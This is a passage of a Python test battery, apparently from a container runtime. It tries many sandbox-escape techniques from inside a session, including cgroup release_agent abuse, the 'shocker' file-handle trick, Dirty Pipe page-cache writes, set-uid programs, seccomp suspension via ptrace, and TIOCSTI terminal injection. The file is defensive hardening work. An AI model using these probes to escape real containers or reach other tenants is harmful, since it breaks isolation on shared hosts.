"""Runs inside a session and tries to reach what a session must not reach.

`inside.py try NAME…` runs each of these attacks in a process of its own and prints one line for
each: `NAME held: why` or `NAME reached: what`; `NAME broken: …` for an attack that itself failed.
`inside.py NAME ARGUMENT…` runs one of the helpers whose result the battery judges from outside.

Every attack is harmless where it succeeds: it opens and does not write, or passes arguments that
the kernel refuses after it has checked the privilege.
"""

import ctypes
import errno
import fcntl
import mmap
import os
import re
import resource
import select
import signal
import socket
import stat
import struct
import sys
import termios
import threading
import time
import traceback

LIBC = ctypes.CDLL(None, use_errno=True)

# A refusal. Any other error says that the kernel looked at the arguments.
REFUSED = (errno.EPERM, errno.EACCES, errno.ENOSYS)
# Longest time of one attack.
PATIENCE_S = 15

CLONE = {
    "time": 0x80, "mount": 0x20000, "cgroup": 0x2000000, "uts": 0x4000000, "ipc": 0x8000000,
    "user": 0x10000000, "pid": 0x20000000, "net": 0x40000000,
}

ATTACKS = {}


class Reached(Exception):
    """The attack succeeded."""


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def call(number, *arguments):
    """A system call; OSError where it fails."""
    plain = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = LIBC.syscall(ctypes.c_long(number), *plain)
    if result == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def refused(what, number, *arguments, also=()):
    """Reached unless the call is refused before the kernel looks at its arguments."""
    try:
        result = call(number, *arguments)
    except OSError as error:
        if error.errno in REFUSED or error.errno in also:
            return
        raise Reached(f"{what} came to {errno.errorcode[error.errno]}") from None
    raise Reached(f"{what} gave {result}")


def in_child(function):
    """Runs this in a process of its own: its exit code, negative for a signal."""
    child = os.fork()
    if child == 0:
        code = 99
        try:
            code = function() or 0
        except OSError as error:
            code = error.errno
        finally:
            os._exit(code)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])


def read(path, most=1 << 16):
    with open(path, "rb", buffering=0) as file:
        return file.read(most) or b""


def status():
    lines = read("/proc/self/status").decode().splitlines()
    return dict(line.split(":\t", 1) for line in lines if ":\t" in line)


def top_of(directory):
    """Device and inode of what lies at the end of all `..`."""
    directory = os.dup(directory)
    here = os.fstat(directory)
    while True:
        above = os.open("..", os.O_PATH | os.O_DIRECTORY, dir_fd=directory)
        os.close(directory)
        directory, before, here = above, here, os.fstat(above)
        if (before.st_dev, before.st_ino) == (here.st_dev, here.st_ino):
            os.close(directory)
            return here.st_dev, here.st_ino


def own_root():
    data = os.stat("/")
    return data.st_dev, data.st_ino


# Namespaces and mounts


@attack
def new_user_namespace():
    refused("unshare(NEWUSER)", 272, CLONE["user"])
    refused("clone(NEWUSER)", 56, CLONE["user"] | signal.SIGCHLD, 0, 0, 0, 0)
    arguments = struct.pack("<11Q", CLONE["user"], 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0)
    refused("clone3(NEWUSER)", 435, arguments, len(arguments))


@attack
def new_namespaces():
    for name, flag in CLONE.items():
        if name not in ("user",):
            refused(f"unshare({name})", 272, flag)
        if name not in ("user", "time"):
            refused(f"clone({name})", 56, flag | signal.SIGCHLD, 0, 0, 0, 0)


@attack
def join_namespaces():
    for name in ("cgroup", "ipc", "mnt", "net", "pid", "user", "uts"):
        space = os.open(f"/proc/self/ns/{name}", os.O_RDONLY)
        refused(f"setns({name})", 308, space, 0)
    pidfd = os.pidfd_open(1)
    refused("setns(pidfd)", 308, pidfd, CLONE["mount"])


@attack
def mounts():
    os.makedirs("/tmp/m", exist_ok=True)
    for source, kind, flags in [(b"none", b"tmpfs", 0), (b"none", b"proc", 0),
                                (b"/", b"", 0x1000), (b"none", b"overlay", 0),
                                (b"none", b"cgroup2", 0), (b"none", b"sysfs", 0)]:
        refused(f"mount {kind.decode()}", 165, source, b"/tmp/m", kind, flags, b"")


@attack
def remounts():
    for path in (b"/", b"/proc", b"/proc/sys", b"/dev"):
        refused(f"remount {path.decode()}", 165, b"none", path, b"", 0x20 | 0x1000, b"")
    for path in (b"/proc/kcore", b"/proc/sys", b"/proc"):
        refused(f"umount {path.decode()}", 166, path, 2)
    refused("pivot_root", 155, b"/tmp", b"/tmp")


@attack
def cve_2022_0185():
    """A heap overflow in fsconfig, reached by fsopen in a new user namespace."""
    refused("fsopen", 430, b"ext4", 0)
    refused("fsconfig", 431, -1, 1, b"a", b"b", 0)
    refused("fsmount", 432, -1, 0, 0)
    refused("fspick", 433, -100, b"/", 0)


@attack
def mounts_by_descriptor():
    refused("open_tree", 428, -100, b"/", 1 | 0x8000)
    refused("move_mount", 429, -1, b"", -100, b"/tmp", 4)
    attributes = struct.pack("<4Q", 0, 1, 0, 0)
    refused("mount_setattr", 442, -100, b"/", 0x8000, attributes, len(attributes))


@attack
def cve_2022_0492():
    """A cgroup v1 mounted in a new user namespace lets its release_agent run as the host's root."""
    refused("unshare(user and cgroup)", 272, CLONE["user"] | CLONE["cgroup"] | CLONE["mount"])
    os.makedirs("/tmp/rdma", exist_ok=True)
    refused("mount cgroup", 165, b"none", b"/tmp/rdma", b"cgroup", 0, b"rdma")
    for directory, _, files in os.walk("/sys"):
        for name in files:
            if name in ("release_agent", "cgroup.procs", "devices.allow"):
                try:
                    os.close(os.open(f"{directory}/{name}", os.O_WRONLY))
                except OSError:
                    continue
                raise Reached(f"{directory}/{name} can be written")


@attack
def cgroup_files():
    # A session may see its own limits: the root of its own namespace, read-only.
    for line in read("/proc/self/mountinfo").decode().splitlines():
        if " - cgroup" not in line:
            continue
        root, point, options = line.split()[3:6]
        if root != "/" or "ro" not in options.split(","):
            raise Reached(line)
        for directory, _, files in os.walk(point):
            for path in [os.path.join(directory, name) for name in files]:
                try:
                    os.close(os.open(path, os.O_WRONLY))
                except OSError:
                    continue
                raise Reached(path + " can be opened for writing")
        try:
            os.mkdir(point + "/mine")
        except OSError:
            pass
        else:
            raise Reached(point + "/mine was made")
        # MS_REMOUNT | MS_BIND, without MS_RDONLY
        refused("mount", 165, b"none", point.encode(), b"none", 32 | 4096, b"")
    for line in read("/proc/self/cgroup").decode().splitlines():
        if not line.endswith(":/"):
            raise Reached(line)


@attack
def leaving_a_chroot():
    before = own_root()

    def leave():
        os.makedirs("/tmp/jail", exist_ok=True)
        directory = os.open("/", os.O_RDONLY)
        os.chroot("/tmp/jail")
        os.fchdir(directory)
        for _ in range(32):
            os.chdir("..")
        os.chroot(".")
        return 0 if own_root() == before else 77

    if in_child(leave) == 77:
        raise Reached("another root than the session's")


# Kernel interfaces


@attack
def bpf():
    refused("bpf", 321, 0, 0, 0)


@attack
def perf_events():
    attributes = struct.pack("<IIQ", 1, 128, 0) + bytes(112)
    refused("perf_event_open", 298, attributes, 0, -1, -1, 0)


@attack
def user_faults():
    refused("userfaultfd", 323, 0)
    refused("userfaultfd, user mode only", 323, 1)
    if os.path.exists("/dev/userfaultfd"):
        raise Reached("/dev/userfaultfd")


@attack
def io_uring():
    refused("io_uring_setup", 425, 1, ctypes.create_string_buffer(120))
    refused("io_uring_enter", 426, -1, 0, 0, 0, 0, 0)
    refused("io_uring_register", 427, -1, 0, 0, 0)


@attack
def keys():
    refused("keyctl", 250, 0, -3, 1)
    refused("add_key", 248, b"user", b"hostile", b"x", 1, -2)
    refused("request_key", 249, b"user", b"hostile", 0, -2)


@attack
def kexec():
    refused("kexec_load", 246, 0, 0, 0, 1)
    refused("kexec_file_load", 320, -1, -1, 0, 0, 8)


@attack
def kernel_modules():
    refused("init_module", 175, 0, 0, b"")
    refused("finit_module", 313, -1, b"", 0)
    refused("delete_module", 176, b"no_such_module", 0o4000)


@attack
def power():
    # A magic number that reboot(2) does not know.
    refused("reboot", 169, 1, 2, 3, 0)


@attack
def swap_accounting_quotas():
    refused("swapon", 167, b"/tmp", 0)
    refused("swapoff", 168, b"/tmp")
    refused("acct", 163, b"/tmp/no-such-file")
    refused("quotactl", 179, 0, 0, 0, 0)


@attack
def clocks():
    # ADJ_TICK with a length that is refused once the privilege was found.
    for name, number, clock in (("clock_adjtime", 305, (0,)), ("adjtimex", 159, ())):
        refused(name, number, *clock, ctypes.create_string_buffer(struct.pack("<I", 0x4000), 208))
    refused("clock_settime", 227, 0, struct.pack("<qq", 0, -1))
    refused("settimeofday", 164, struct.pack("<qq", 0, -1), 0)


@attack
def kernel_log():
    refused("syslog", 103, 3, ctypes.create_string_buffer(64), 64)
    refused("syslog, size", 103, 10, 0, 0)


@attack
def host_name():
    refused("sethostname", 170, b"hostile", 7)
    refused("setdomainname", 171, b"hostile", 7)


@attack
def io_ports():
    refused("iopl", 172, 3)
    refused("ioperm", 173, 0x80, 1, 1)
    refused("modify_ldt", 154, 0, 0, 0)


@attack
def personalities():
    before = LIBC.personality(0xFFFFFFFF)
    for name, value in (("READ_IMPLIES_EXEC", 0x400000), ("MMAP_PAGE_ZERO", 0x100000)):
        refused(f"personality({name})", 135, value)
    if LIBC.personality(0xFFFFFFFF) != before:
        raise Reached("another execution domain")


@attack
def file_handles():
    """The way of `shocker`: a file of the host by its handle."""
    for number in (2, 128, 256):
        handle = struct.pack("<IiII", 8, 1, number, 0)
        refused("open_by_handle_at", 304, os.open("/", os.O_RDONLY), handle, 0)
    refused("name_to_handle_at", 303, -100, b"/", ctypes.create_string_buffer(128), 0, 0)


@attack
def fanotify():
    refused("fanotify_init", 300, 0, 0)
    refused("fanotify_init, unprivileged", 300, 0x200, 0)


@attack
def memory_of_others():
    pid = os.getppid()
    buffer = ctypes.create_string_buffer(8)
    vector = struct.pack("<QQ", ctypes.addressof(buffer), 8)
    refused("process_vm_readv", 310, pid, vector, 1, vector, 1, 0)
    refused("process_vm_writev", 311, pid, vector, 1, vector, 1, 0)
    refused("pidfd_getfd", 438, os.pidfd_open(pid), 0, 0)
    refused("kcmp", 312, pid, os.getpid(), 0, 0, 0)


@attack
def memory_policies():
    refused("mbind", 237, 0, 0, 0, 0, 0, 0)
    refused("set_mempolicy", 238, 0, 0, 0)
    refused("migrate_pages", 256, 0, 0, 0, 0)
    refused("move_pages", 279, 0, 0, 0, 0, 0, 0)


@attack
def asynchronous_io():
    """The kernel counts these requests in one number for the whole host."""
    context = ctypes.c_ulong(0)
    try:
        call(206, 32, ctypes.byref(context))
    except OSError as error:
        if error.errno in REFUSED:
            return
        raise
    raise Reached("io_setup took 32 of fs.aio-max-nr")


@attack
def locked_memory():
    def lock():
        resource.setrlimit(resource.RLIMIT_MEMLOCK, resource.getrlimit(resource.RLIMIT_MEMLOCK))
        return 0 if LIBC.mlockall(2) == 0 else ctypes.get_errno()

    if in_child(lock) == 0:
        raise Reached("mlockall")


@attack
def foreign_entries():
    """System calls of i386 and of x32, which no list of numbers covers."""
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # mov eax, 20 (getpid of i386); int 0x80; ret
    code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    function = ctypes.CFUNCTYPE(ctypes.c_int)(address)

    def legacy():
        return 77 if function() > 0 else 0

    if in_child(legacy) == 77:
        raise Reached("int 0x80")
    refused("getpid of x32", 0x40000000 | 39)


@attack
def suspended_filter():
    """A tracer that switches its child's system call filter off."""

    def traced():
        LIBC.ptrace(0, 0, 0, 0)
        os.kill(os.getpid(), signal.SIGSTOP)
        return 0

    child = os.fork()
    if child == 0:
        traced()
        os._exit(0)
    os.waitpid(child, 0)
    result = LIBC.ptrace(0x4200, child, 0, ctypes.c_long(1 << 21))
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
    if result == 0:
        raise Reached("PTRACE_O_SUSPEND_SECCOMP")


# Sockets


@attack
def socket_families():
    for family in range(46):
        if family in (1, 2, 10, 16):
            continue
        for kind in (1, 2, 3, 5):
            try:
                socket.socket(family, kind, 0).close()
            except OSError as error:
                if error.errno in (*REFUSED, errno.EAFNOSUPPORT, errno.EPROTONOSUPPORT,
                                   errno.ESOCKTNOSUPPORT, errno.EINVAL):
                    continue
                raise Reached(f"family {family} came to {errno.errorcode[error.errno]}") from None
            raise Reached(f"family {family}, kind {kind}")


@attack
def raw_sockets():
    for family, protocol in ((2, 1), (2, 255), (10, 58), (2, 6)):
        try:
            socket.socket(family, socket.SOCK_RAW, protocol)
        except OSError as error:
            if error.errno in (*REFUSED, errno.EPROTONOSUPPORT):
                continue
            raise
        raise Reached(f"a raw socket of family {family}")


@attack
def socket_protocols():
    """Protocols that few programs need: MPTCP, UDP-Lite, SCTP, DCCP, L2TP."""
    for family in (2, 10):
        for kind, protocol in ((1, 262), (2, 136), (1, 132), (5, 132), (6, 33), (2, 115)):
            try:
                call(41, family, kind, protocol)
            except OSError:
                continue
            raise Reached(f"protocol {protocol} of family {family}")


# A classic program of one instruction: everything passes, or every system call is allowed.
def one_instruction(value, buffer=[]):
    buffer.append(ctypes.create_string_buffer(struct.pack("<HBBI", 6, 0, 0, value)))
    return struct.pack("<HxxxxxxQ", 1, ctypes.addressof(buffer[-1]))


@attack
def socket_filters():
    """Programs of sockets take memory of one pool of the kernel, which every session's start needs."""
    everything = one_instruction(0xFFFFFFFF)
    nothing = struct.pack("<i", -1)
    for name, option, value in (("SO_ATTACH_FILTER", 26, everything),
                                ("SO_ATTACH_BPF", 50, nothing),
                                ("SO_ATTACH_REUSEPORT_CBPF", 51, everything),
                                ("SO_ATTACH_REUSEPORT_EBPF", 52, nothing)):
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        # The kernel looks at the low halves of the two numbers only.
        for high in (0, 1 << 32):
            try:
                call(54, one.fileno(), 1 | high, option | high, value, len(value))
            except OSError as error:
                if error.errno == errno.EINVAL:
                    continue
                raise Reached(f"{name} came to {errno.errorcode[error.errno]}") from None
            raise Reached(name)


@attack
def own_filters():
    """System call filters take memory of the same pool."""
    allow = one_instruction(0x7FFF0000)

    def install(*arguments):
        def attempt():
            call(157, 38, 1, 0, 0, 0)
            call(*arguments, allow)
            return 77

        return attempt

    for name, arguments in (("seccomp", (317, 1, 0)), ("prctl", (157, 22, 2))):
        code = in_child(install(*arguments))
        if code == 77:
            raise Reached(name)
        if code != errno.EINVAL:
            raise Reached(f"{name} came to {code}")


@attack
def huge_pages():
    """The host reserves them, and no memory cgroup is charged for them."""
    for name, attempt in (
        ("MAP_HUGETLB", lambda: call(9, 0, 2 << 20, 3, 0x40022, -1, 0)),
        ("MFD_HUGETLB", lambda: call(319, b"huge", 4)),
        ("SHM_HUGETLB", lambda: call(29, 0, 2 << 20, 0o5600)),
    ):
        try:
            attempt()
        except OSError as error:
            if error.errno == errno.EINVAL:
                continue
            raise Reached(f"{name} came to {errno.errorcode[error.errno]}") from None
        raise Reached(name)


@attack
def netlink_families():
    found = []
    # All but ROUTE, which name resolution needs, SOCK_DIAG, which ss needs, and KOBJECT_UEVENT, which
    # libudev needs and which brings nothing of the host's into another network namespace.
    for protocol in set(range(23)) - {0, 4, 15}:
        try:
            socket.socket(16, socket.SOCK_RAW, protocol).close()
        except OSError as error:
            if error.errno in REFUSED or error.errno == errno.EPROTONOSUPPORT:
                continue
            raise
        found.append(protocol)
    if found:
        raise Reached(f"netlink families {found}")


@attack
def network_administration():
    control = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    # SIOCSIFFLAGS and SIOCSIFMTU on lo.
    for name, request in (("flags", 0x8914), ("mtu", 0x8922)):
        try:
            fcntl.ioctl(control, request, struct.pack("16sI", b"lo", 0x49) + bytes(20))
        except OSError as error:
            if error.errno in REFUSED:
                continue
            raise
        raise Reached(f"{name} of lo can be set")
    for option in (36, 32, 33):  # SO_MARK, SO_SNDBUFFORCE, SO_RCVBUFFORCE
        try:
            control.setsockopt(socket.SOL_SOCKET, option, 1 << 24)
        except OSError:
            continue
        raise Reached(f"socket option {option}")


@attack
def netfilter():
    for table in (b"filter", b"nat"):
        raw = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        info = bytearray(table.ljust(84, b"\0"))
        length = ctypes.c_int(len(info))
        buffer = (ctypes.c_char * len(info)).from_buffer(info)
        if LIBC.getsockopt(raw.fileno(), 0, 64, buffer, ctypes.byref(length)) == 0:
            raise Reached("iptables")


# Processes, privileges, priorities


@attack
def capabilities():
    own = sum(1 << bit for bit in (0, 1, 3, 4, 5, 6, 7, 10, 18))
    fields = status()
    for name in ("CapPrm", "CapEff", "CapBnd"):
        more = int(fields[name], 16) & ~own
        if more:
            raise Reached(f"{name} has {more:#x} beyond the list")
    for bit in range(41):
        if not own >> bit & 1:
            header = struct.pack("<Ii", 0x20080522, 0)
            data = [0] * 6
            data[bit // 32 * 3] = data[bit // 32 * 3 + 1] = 1 << bit % 32
            if LIBC.capset(header, struct.pack("<6I", *data)) == 0:
                raise Reached(f"capability {bit} by capset")


@attack
def cve_2022_29162():
    """Inheritable capabilities, which a program with file capabilities adds to its own; also
    CVE-2022-24769, CVE-2022-27650, CVE-2022-27652 and CVE-2025-27612."""
    for pid in ("self", "1"):
        text = read(f"/proc/{pid}/status").decode()
        for name in ("CapInh", "CapAmb"):
            value = re.search(rf"{name}:\t(\w+)", text)[1]
            if int(value, 16):
                raise Reached(f"{name} of {pid} is {value}")


@attack
def set_user_id_programs():
    # Its copy of the shell gives root to every user who runs it.
    path = "/tmp/suid-id"
    with open("/bin/busybox", "rb") as source, open(path, "wb") as copy:
        copy.write(source.read())
    os.chmod(path, 0o4755)
    if status().get("NoNewPrivs") != "1":
        raise Reached("NoNewPrivs is not set")

    def run():
        os.setgroups([])
        os.setgid(1000)
        os.setuid(1000)
        os.execv(path, ["grep", "-q", "^Uid:.1000.1000.1000", "/proc/self/status"])

    if in_child(run) != 0:
        raise Reached("another user by a set-user-id program")


@attack
def cve_2023_25173():
    """Supplementary groups that the image's user does not have; also CVE-2022-36109."""
    groups = set(os.getgroups()) - {0}
    if groups:
        raise Reached(f"groups {sorted(groups)}")


@attack
def identity_map():
    for name in ("uid_map", "gid_map"):
        for line in read(f"/proc/self/{name}").decode().splitlines():
            inside, outside, _ = map(int, line.split())
            if outside < 65536:
                raise Reached(f"{inside} is {outside} on the host")
    try:
        descriptor = os.open("/proc/self/uid_map", os.O_WRONLY)
        os.write(descriptor, b"0 0 1\n")
    except OSError:
        return
    raise Reached("a mapping of the host's root")


@attack
def priorities():
    for name, attempt in (
        ("nice -20", lambda: os.setpriority(os.PRIO_PROCESS, 0, -20)),
        ("SCHED_FIFO", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))),
        ("SCHED_RR", lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1))),
        ("real-time I/O", lambda: call(251, 1, 0, 1 << 13)),
        ("SCHED_DEADLINE", lambda: call(314, 0, struct.pack(
            "<IIQiIQQQ", 48, 6, 0, 0, 0, 1_000_000, 10_000_000, 10_000_000), 0)),
    ):
        try:
            attempt()
        except OSError:
            continue
        raise Reached(name)


@attack
def resource_limits():
    for name in ("NOFILE", "MEMLOCK", "SIGPENDING", "MSGQUEUE", "RTPRIO", "NPROC"):
        limit = {"SIGPENDING": 11, "MSGQUEUE": 12, "RTPRIO": 14}.get(name)
        limit = limit if limit is not None else getattr(resource, f"RLIMIT_{name}")
        _, hard = resource.getrlimit(limit)
        if name in ("NOFILE", "SIGPENDING", "MSGQUEUE", "MEMLOCK") and (
                hard == resource.RLIM_INFINITY or hard > 1 << 26):
            raise Reached(f"RLIMIT_{name} is {hard}")
        if hard == resource.RLIM_INFINITY:
            continue
        try:
            resource.setrlimit(limit, (hard, hard + 1))
        except (OSError, ValueError):
            continue
        raise Reached(f"RLIMIT_{name} can be raised")


@attack
def core_handlers():
    """With a pipe in core_pattern, the host runs a program as root for each crash, unless RLIMIT_CORE
    is exactly 1."""
    both = struct.pack("<QQ", 0, 0)
    attempts = (
        ("nothing", lambda: None),
        ("setrlimit", lambda: resource.setrlimit(resource.RLIMIT_CORE, (0, 0))),
        ("setrlimit(2)", lambda: call(160, resource.RLIMIT_CORE, both)),
        ("prlimit64(2)", lambda: call(302, 0, resource.RLIMIT_CORE, both, 0)),
        ("prlimit", lambda: resource.prlimit(0, resource.RLIMIT_CORE, (0, 0))),
    )
    for name, attempt in attempts:
        attempt()
        limits = resource.getrlimit(resource.RLIMIT_CORE)
        if limits != (1, 1):
            raise Reached(f"RLIMIT_CORE is {limits} after {name}")


@attack
def out_of_memory_score():
    """A session is killed before the shim and the daemon when the host has no memory left."""
    for pid in ("1", "self"):
        score = int(read(f"/proc/{pid}/oom_score_adj"))
        if score <= 0:
            raise Reached(f"oom_score_adj of {pid} is {score}")
    # The kernel lets it fall to 0 where whoever raised it lacked CAP_SYS_RESOURCE.
    bounded = "HOSTILE_SCORE_BOUNDED" in os.environ
    for lower in (-1000, -1, *((0,) if bounded else ())):
        try:
            with open("/proc/self/oom_score_adj", "w") as file:
                file.write(str(lower))
        except OSError:
            continue
        raise Reached(f"oom_score_adj {lower}")


@attack
def processes_of_others():
    pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    for pid in pids:
        try:
            root = os.stat(f"/proc/{pid}/root/.")
            parent = int(re.search(r"PPid:\t(\d+)", read(f"/proc/{pid}/status").decode())[1])
        except (PermissionError, FileNotFoundError, ProcessLookupError):
            continue
        if (root.st_dev, root.st_ino) != own_root():
            raise Reached(f"the root of process {pid}")
        if parent and parent not in pids and os.path.exists(f"/proc/{parent}"):
            raise Reached(f"process {parent}")
    if len(pids) > 64:
        raise Reached(f"{len(pids)} processes")


@attack
def descriptors_of_others():
    """Descriptors, roots and work directories in /proc that lead out of the session."""
    here = own_root()
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        try:
            links = [f"/proc/{pid}/fd/{name}" for name in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            links = []
        for link in [*links, f"/proc/{pid}/cwd", f"/proc/{pid}/root"]:
            try:
                directory = os.open(link, os.O_PATH | os.O_DIRECTORY)
            except OSError:
                continue
            target = os.readlink(link)
            inside = top_of(directory) == here
            os.close(directory)
            if not inside and not target.startswith(("/proc", "/dev")):
                raise Reached(f"{link} leads to {target}")


# Files


MASKED = [
    "acpi", "asound", "bus/pci/devices", "cmdline", "config.gz", "crypto", "diskstats", "driver/rtc", "fb",
    "interrupts", "iomem", "ioports", "kcore", "key-users", "keys", "kmsg", "kpagecgroup",
    "kpagecount", "kpageflags", "latency_stats", "locks", "mdstat", "misc", "mtrr",
    "pagetypeinfo", "pressure", "sched_debug", "schedstat", "scsi/scsi", "slabinfo", "swaps", "sysrq-trigger",
    "timer_list", "timer_stats", "vmallocinfo",
]
# What any process may know, and no session can change or learn from.
HARMLESS = {"crypto", "fb", "misc", "swaps", "mdstat", "schedstat", "driver/rtc", "mtrr",
            "ioports", "iomem", "pagetypeinfo", "bus/pci/devices"}


@attack
def masked_files():
    found = []
    for name in MASKED:
        if name in HARMLESS:
            continue
        try:
            descriptor = os.open(f"/proc/{name}", os.O_RDONLY | os.O_NONBLOCK)
            if os.path.isdir(f"/proc/{name}"):
                content = os.listdir(f"/proc/{name}")
            else:
                content = os.read(descriptor, 16)
        except OSError:
            continue
        if content:
            found.append(name)
    if found:
        raise Reached("/proc/{" + ",".join(found) + "}")


@attack
def kernel_addresses():
    for path in ("/proc/kallsyms", "/proc/modules"):
        try:
            content = read(path).decode()
        except OSError:
            continue
        for line in content.splitlines()[:200]:
            for number in re.findall(r"(?:0x)?\b([0-9a-f]{16})\b", line):
                if int(number, 16):
                    raise Reached(f"{path}: {line}")


@attack
def kernel_settings():
    """core_pattern, modprobe, binfmt_misc and every other setting of the kernel."""
    for directory, _, files in os.walk("/proc/sys"):
        for name in files:
            try:
                descriptor = os.open(f"{directory}/{name}", os.O_WRONLY)
            except OSError:
                continue
            os.close(descriptor)
            raise Reached(f"{directory}/{name} can be written")


@attack
def kernel_triggers():
    """sysrq-trigger, uevent_helper, interrupts and whatever else in /proc and /sys takes a write."""
    for top in ("/proc", "/sys"):
        for directory, names, files in os.walk(top):
            if directory == "/proc":
                names[:] = [n for n in names if not n.isdigit() and n not in
                            ("self", "thread-self", "sys")]
            for name in files:
                path = f"{directory}/{name}"
                try:
                    mode = os.lstat(path).st_mode
                    if not stat.S_ISREG(mode) or not mode & 0o222:
                        # A mask, a link to what is the session's own, or nothing to write to.
                        continue
                except OSError:
                    continue
                try:
                    descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                except OSError:
                    continue
                os.close(descriptor)
                raise Reached(f"{path} can be written")


@attack
def pressure_triggers():
    """Each trigger costs a grace period of the kernel when the process that wrote it ends."""
    for name in ("cpu", "io", "memory", "irq"):
        try:
            descriptor = os.open(f"/proc/pressure/{name}", os.O_RDWR | os.O_NONBLOCK)
            os.write(descriptor, b"some 150000 2000000\0")
        except OSError:
            continue
        raise Reached(f"a trigger in /proc/pressure/{name}")


@attack
def host_paths():
    """Paths of the host in what a session may read about its mounts."""
    wanted = os.environ["HOSTILE_STATE_DIR"]
    for name in ("mountinfo", "mounts", "mountstats"):
        text = read(f"/proc/self/{name}", 1 << 20).decode()
        for line in text.splitlines():
            if wanted in line or "/run/conman-" in line:
                raise Reached(f"{name}: {line}")


@attack
def cve_2021_21334():
    """Another container's variables, or the daemon's."""
    own = f"CONMAN_SESSION_ID={os.environ.get('CONMAN_SESSION_ID')}"
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        try:
            variables = read(f"/proc/{pid}/environ").split(b"\0")
        except OSError:
            continue
        for variable in variables:
            foreign = variable.startswith(b"CONMAN_SESSION_ID=") and variable != own.encode()
            if foreign or variable.startswith((b"LEAK=", b"CONMAN_E2E_BINARY=")):
                raise Reached(variable.decode())


@attack
def device_nodes():
    for kind, major, minor in ((stat.S_IFBLK, 254, 0), (stat.S_IFBLK, 8, 0), (stat.S_IFCHR, 1, 1),
                               (stat.S_IFCHR, 1, 11), (stat.S_IFCHR, 10, 229)):
        path = f"/tmp/node-{major}-{minor}"
        for directory in ("/tmp", "/dev/shm"):
            path = f"{directory}/node-{major}-{minor}"
            try:
                os.mknod(path, kind | 0o600, os.makedev(major, minor))
            except OSError:
                continue
            raise Reached(f"the device {major}:{minor} at {path}")


@attack
def shared_devices():
    """The nodes in /dev are the same inodes in all sessions."""
    harmless = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "pts", "shm", "mqueue",
                "fd", "stdin", "stdout", "stderr", "console", "core"}
    more = set(os.listdir("/dev")) - harmless
    if more:
        raise Reached(f"/dev has {sorted(more)}")
    for name in ("null", "zero", "full", "random", "urandom", "tty"):
        path = f"/dev/{name}"
        for what, attempt in (
            ("chmod", lambda: os.chmod(path, 0o666)),
            ("chown", lambda: os.chown(path, 0, 0)),
            ("utime", lambda: os.utime(path)),
            ("xattr", lambda: os.setxattr(path, "user.hostile", b"x")),
            ("rename", lambda: os.rename(path, path)),
            ("remove", lambda: os.link(path, path + "-hostile")),
        ):
            try:
                attempt()
            except OSError:
                continue
            if what != "rename":
                raise Reached(f"{what} of {path}")


@attack
def entropy():
    for name in ("random", "urandom"):
        descriptor = os.open(f"/dev/{name}", os.O_RDWR)
        for request in (0x40045201, 0x40085203, 0x5204, 0x5206, 0x5207):
            try:
                fcntl.ioctl(descriptor, request, struct.pack("<IIQ", 0, 0, 0))
            except OSError:
                continue
            raise Reached(f"ioctl {request:#x} of /dev/{name}")


@attack
def cve_2022_0847():
    """Dirty Pipe: a write into the page cache of a file that is open for reading."""
    path = "/bin/busybox"
    source = os.open(path, os.O_RDONLY)
    before = os.pread(source, 16, 0)
    reader, writer = os.pipe()
    size = fcntl.fcntl(writer, 1031, 65536)
    for _ in range(size // 4096):
        os.write(writer, bytes(4096))
    for _ in range(size // 4096):
        os.read(reader, 4096)
    os.splice(source, writer, 1, offset_src=0)
    os.write(writer, b"HOSTILE")
    if os.pread(source, 16, 0) != before:
        raise Reached("the page cache of the image")


# Terminals


def terminal_ioctl(request, argument=b"\0" * 8):
    """On the session's own terminal, which the battery gives it for these."""
    try:
        fcntl.ioctl(0, request, argument)
    except OSError as error:
        if error.errno in (*REFUSED, errno.ENOTTY):
            return False
        raise Reached(f"the ioctl came to {errno.errorcode[error.errno]}") from None
    return True


@attack
def terminal_input():
    if terminal_ioctl(termios.TIOCSTI, b"x"):
        raise Reached("TIOCSTI")


@attack
def terminal_selection():
    if terminal_ioctl(0x541C, b"\x03" + bytes(16)):
        raise Reached("TIOCLINUX")


@attack
def terminal_discipline():
    if terminal_ioctl(0x5423, struct.pack("<i", 0)):
        raise Reached("TIOCSETD")


@attack
def terminal_exclusive():
    if terminal_ioctl(0x540C, b"\0"):
        raise Reached("TIOCEXCL")


@attack
def terminal_console():
    if terminal_ioctl(0x541D):
        raise Reached("TIOCCONS")


@attack
def terminal_hangup():
    refused("vhangup", 153)


@attack
def terminals_of_others():
    for name in os.listdir("/dev/pts") if os.path.isdir("/dev/pts") else []:
        if name == "ptmx":
            continue
        data = os.stat(f"/dev/pts/{name}")
        if data.st_uid == 65534:
            raise Reached(f"/dev/pts/{name}")


# What another session could notice


def traces(name):
    """Things with this name that other sessions should not meet."""
    key = 0x7C0FFEE
    return name, key


@attack
def leave_traces():
    """Called first, in one session; the others below are called in another one."""
    with open("/dev/shm/hostile-trace", "w") as file:
        file.write("x")
    LIBC.shmget(0x7C0FFEE, 4096, 0o1666)
    LIBC.msgget(0x7C0FFEE, 0o1666)
    LIBC.semget(0x7C0FFEE, 1, 0o1666)


@attack
def shared_memory_of_others():
    if os.path.exists("/dev/shm/hostile-trace"):
        raise Reached("/dev/shm")
    for name, number in (("shared memory", LIBC.shmget(0x7C0FFEE, 4096, 0)),
                         ("messages", LIBC.msgget(0x7C0FFEE, 0)),
